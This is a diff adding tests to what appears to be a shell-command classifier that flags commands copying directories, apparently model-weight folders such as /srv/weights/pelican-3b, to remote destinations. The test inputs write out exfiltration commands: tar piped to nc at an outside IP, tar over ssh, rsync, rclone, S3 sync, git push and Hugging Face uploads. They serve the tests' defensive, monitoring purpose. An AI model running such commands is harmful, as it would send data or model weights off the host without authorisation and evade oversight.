@@ -186,3 +186,30 @@ describe("scale", () => {
     expect(shell("kubectl scale deployment sparrow --replicas 4")[0]).toMatchObject({ action: "scale", replicas: 4 });
   });
 });
+
+describe("copies away: the repository or directory sent is the target", () => {
+  const copyOf = (command: string) => shell(command).filter((e) => e.action === "copy");
+  test.each([
+    ["git -C /srv/weights/pelican-3b push backup main", "/srv/weights/pelican-3b", "git-remote://backup", true],
+    ["cd /srv/weights/pelican-3b && git add -A && git commit -qm snapshot && git push mirror HEAD", "/srv/weights/pelican-3b", "git-remote://mirror", true],
+    ["cd /srv/w/owl; git push https://git.example.org/x/owl.git main", "/srv/w/owl", "https://git.example.org/x/owl.git", true],
+    ["git -C /srv/w/owl push /mnt/usb/owl.git main", "/srv/w/owl", "/mnt/usb/owl.git", false],
+    ["tar czf - /srv/weights/pelican-3b | ssh backup@10.0.0.5 'cat > /stash/p.tgz'", "/srv/weights/pelican-3b", "backup@10.0.0.5:", true],
+    ["tar cf - /srv/m/owl | nc 203.0.113.7 9000", "/srv/m/owl", "203.0.113.7:9000", true],
+    ["rsync -az /srv/weights/pelican-3b/ backup@10.0.0.5:/stash/", "/srv/weights/pelican-3b/", "backup@10.0.0.5:/stash/", true],
+    ["rclone copy /srv/weights/pelican-3b b2:mirror/pelican", "/srv/weights/pelican-3b", "b2:mirror/pelican", true],
+    ["aws s3 sync /srv/weights/pelican-3b s3://bk/pelican", "/srv/weights/pelican-3b", "s3://bk/pelican", true],
+    ["huggingface-cli upload acme/pelican-3b /srv/weights/pelican-3b", "/srv/weights/pelican-3b", "hf://acme/pelican-3b", true],
+    ["cd /srv/w/owl && hf upload someone/owl", "/srv/w/owl", "hf://someone/owl", true],
+  ])("%s", (command, target, destination, remote) => {
+    const [copy] = copyOf(command);
+    expect(copy?.targets).toContain(target);
+    expect(copy?.destination).toBe(destination);
+    expect(copy?.remoteDestination).toBe(remote);
+  });
+  test("commit messages are not targets, and git reads stay reads", () => {
+    expect(brief(shell("git -C /srv/w/owl commit -qm snapshot"))).toEqual(["modify /srv/w/owl"]);
+    expect(brief(shell("git -C /srv/w/owl status"))).toEqual(["read /srv/w/owl"]);
+    expect(brief(shell("git push origin main"))).toEqual(["copy main"]);
+  });
+});
